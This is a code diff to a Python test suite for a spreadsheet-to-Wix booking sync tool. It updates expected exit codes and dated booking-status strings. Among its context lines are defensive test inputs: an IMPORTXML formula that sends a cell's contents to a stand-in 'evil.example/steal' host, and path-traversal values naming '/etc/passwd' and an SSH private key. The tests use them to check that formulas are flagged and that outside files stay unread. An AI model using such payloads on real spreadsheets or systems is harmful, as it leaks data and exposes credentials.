@@ -61,7 +61,7 @@ from sync.sheet.columns import DEFAULT_COLUMNS
 from sync.sheet.localfile import LocalSheet
 from sync.wix import KeyRejected
 from tests.conftest import NOW
-from tests.proof.world import HEADER, TAB, World, day_label, line
+from tests.proof.world import HEADER, TAB, World, day_label, line, undated
 
 WRONG_SITE = "0badc0de-0000-4000-8000-000000000000"
 FORMULA = '=IMPORTXML("http://evil.example/steal?c="&A1,"//a")'
@@ -326,8 +326,9 @@ def run_commands(
         doctor += ["--class", "Open Water Swim", "--class", "Water Polo", "--state", state]
         runs: list[tuple[str, list[str], str, int]] = [
             ("plan", ["plan", "--config", str(config)], wix_key, 0),
-            ("sync", ["sync", "--once", "--config", str(config)], wix_key, 0),
-            ("sync again", ["sync", "--once", "--config", str(config)], wix_key, 0),
+            # 3: the club's sheet keeps rows that wait for a person (their Error)
+            ("sync", ["sync", "--once", "--config", str(config)], wix_key, 3),
+            ("sync again", ["sync", "--once", "--config", str(config)], wix_key, 3),
             ("status", ["status", "--config", str(config)], wix_key, 0),
             (  # 1: there is no Water Polo class
                 "doctor",
@@ -397,7 +398,7 @@ def test_no_key_token_or_private_key_in_logs_errors_output_files_or_cells(
     for expected in ("Booked", "wixsync doctor", "Recent runs", "Plan:", "refused the API key"):
         assert expected in outputs
     cells = json.dumps(world.records(), ensure_ascii=False)
-    assert "Booked · 10 Swim Pass" in cells
+    assert "Booked · Mon 15 Jun · 10 Swim Pass" in cells
     assert "is a formula" in cells
     # a wrong site id or a refused key stops the cycle: the site's refusal, never a row's error
     assert "API key" not in cells
@@ -517,7 +518,7 @@ def test_the_demo_keeps_the_local_wix_keys_and_its_state_0600(
         config = tmp_path / "wixsync-demo" / "wixsync.toml"
         again = CliRunner().invoke(main, ["sync", "--once", "--config", str(config)])
     assert demo.exit_code == 0, demo.output
-    assert again.exit_code == 0, again.output
+    assert again.exit_code == 3, again.output  # the demo's 7 rows wait for a person
     state = tmp_path / "wixsync-demo" / "state"
     assert "IST." in (state / "sandbox.json").read_text(), "sandbox.json holds keys"
     files = [*state_files(state / "state.sqlite3"), state / "sandbox.json"]
@@ -803,7 +804,7 @@ def test_path_like_cells_open_no_file_outside_the_run_folder(
     assert not [p for p in written | read if inside(p, {home.resolve()})]
     statuses = [r["Status"] for r in world.records()]
     errors = " ".join(r["Error"] for r in world.records())
-    assert statuses.count("Booked · paid cash · checked in") >= len(PATH_LIKE)
+    assert [undated(s) for s in statuses].count("Booked · paid cash · checked in") >= len(PATH_LIKE)
     assert "No class called '../../etc/passwd'" in errors
     assert "does not hold a plan called '~/.ssh/id_rsa'" in errors
 
